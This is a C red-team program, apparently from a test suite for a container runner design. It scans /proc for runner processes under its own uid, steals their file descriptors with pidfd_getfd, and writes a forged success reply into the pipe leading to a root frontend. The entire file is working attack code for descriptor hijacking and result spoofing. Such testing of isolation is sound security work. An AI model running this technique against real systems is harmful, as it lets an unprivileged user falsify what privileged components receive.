/* Red team: the container's system user on the host (it can run code there, e.g. through
 * an lxc.hook in the config it owns) hunts the runners of its container, which run as its
 * own uid: every process whose title names a runner is tried with pidfd_getfd. A catch is
 * logged as `CAUGHT pid=<pid> fd0=<target of its fd 0>`, and a forged reply line is
 * written into its fd 3 when that is a pipe (the runner's reply pipe to the root frontend),
 * logged as `FORGED pid=<pid>`.
 *
 * usage: grab SECONDS LOG
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char forged[] = "{\"status\":true,\"output\":0}\n";
static char done[1 << 22];

static void target_of(int fd, char *buf, size_t len) {
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, buf, len - 1);
    buf[n < 0 ? 0 : n] = 0;
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    time_t end = time(NULL) + atoi(argv[1]);
    FILE *log = fopen(argv[2], "w");
    if (!log)
        return 1;
    setvbuf(log, NULL, _IOLBF, 0);
    if (fork() != 0)
        return 0;
    setsid();
    fprintf(log, "watching\n");
    uid_t me = getuid();
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid >= (1 << 22) || done[pid] || pid == getpid())
                continue;
            char path[64], cmd[256] = {0};
            struct stat st;
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (stat(path, &st) || st.st_uid != me)
                continue;
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t n = read(fd, cmd, sizeof cmd - 1);
            close(fd);
            if (n <= 0 || !strstr(cmd, "runner:"))
                continue;
            int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
            if (pidfd < 0)
                continue;
            int fd0 = (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
            if (fd0 < 0) {
                close(pidfd);
                continue; /* not catchable (yet): try again on the next pass */
            }
            done[pid] = 1;
            char target[256];
            target_of(fd0, target, sizeof target);
            close(fd0);
            fprintf(log, "CAUGHT pid=%d fd0=%s\n", pid, target);
            int reply = (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);
            if (reply >= 0) {
                target_of(reply, target, sizeof target);
                if (strncmp(target, "pipe:", 5) == 0 &&
                    write(reply, forged, strlen(forged)) > 0)
                    fprintf(log, "FORGED pid=%d\n", pid);
                close(reply);
            }
            close(pidfd);
        }
        if (d)
            closedir(d);
        usleep(100);
    }
    fprintf(log, "done\n");
    return 0;
}
